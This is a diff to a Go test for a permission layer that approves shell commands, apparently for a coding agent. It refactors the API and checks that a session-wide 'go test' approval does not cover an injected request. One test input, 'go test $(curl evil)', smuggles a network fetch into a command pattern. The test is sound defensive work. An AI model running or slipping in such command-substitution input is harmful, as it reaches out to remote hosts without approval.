@@ -17,9 +17,8 @@ func TestAllowInSessionGrantsNoOther(t *testing.T) {
 	t.Parallel()
 	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
 	defer cancel()
-	asks := permission.NewAsks()
 	approvals := &permission.Approvals{Root: func(_ context.Context, session string) (string, error) { return session, nil }}
-	answers := permission.NewAnswers(ctx, asks, approvals)
+	asks := permission.NewAsks(ctx, approvals)
 	type result struct {
 		id  string
 		err error
@@ -29,7 +28,7 @@ func TestAllowInSessionGrantsNoOther(t *testing.T) {
 	ask := func(id, pattern string, asked bool) {
 		r := sdk.PermissionRequest{ID: id, SessionID: "ses_a", Permission: "bash", Patterns: []string{pattern}, Always: []string{"go test *"}}
 		go func() { // ends with the answer
-			err := asks.Permission(ctx, r, asked, false, func(e sdk.Event) {
+			err := permission.AskPermission(ctx, asks, r, asked, false, func(e sdk.Event) {
 				if e.Type == sdk.EventPermissionAsked {
 					told <- struct{}{}
 				}
@@ -41,7 +40,7 @@ func TestAllowInSessionGrantsNoOther(t *testing.T) {
 	ask("per_1", "go test ./a", false)
 	ask("per_2", "go test ./b", false)
 	ask("per_3", "go test $(curl evil)", true)
-	if err := answers.AllowInSession("per_1"); err != nil {
+	if err := asks.AllowInSession("per_1"); err != nil {
 		t.Fatal(err)
 	}
 	granted := []string{}
@@ -53,10 +52,10 @@ func TestAllowInSessionGrantsNoOther(t *testing.T) {
 		granted = append(granted, r.id)
 	}
 	slices.Sort(granted)
-	if left := answers.Permissions(); !slices.Equal(granted, []string{"per_1", "per_2"}) || len(left) != 1 || left[0].ID != "per_3" {
+	if left := asks.Permissions(); !slices.Equal(granted, []string{"per_1", "per_2"}) || len(left) != 1 || left[0].ID != "per_3" {
 		t.Errorf("granted %q, waiting %+v", granted, left)
 	}
-	if err := answers.ReplyPermission("per_3", sdk.ReplyReject, ""); err != nil {
+	if err := asks.ReplyPermission("per_3", sdk.ReplyReject, ""); err != nil {
 		t.Fatal(err)
 	}
 	var refusal *sdk.Refusal
